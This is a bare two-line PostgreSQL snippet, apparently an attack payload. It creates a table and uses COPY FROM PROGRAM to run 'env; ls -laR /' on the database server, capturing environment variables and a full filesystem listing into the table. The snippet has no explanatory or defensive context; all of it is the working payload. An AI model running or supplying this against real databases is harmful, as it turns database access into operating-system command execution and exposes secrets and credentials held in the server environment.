CREATE TABLE public.found (line text);
COPY public.found FROM PROGRAM 'env; ls -laR /';
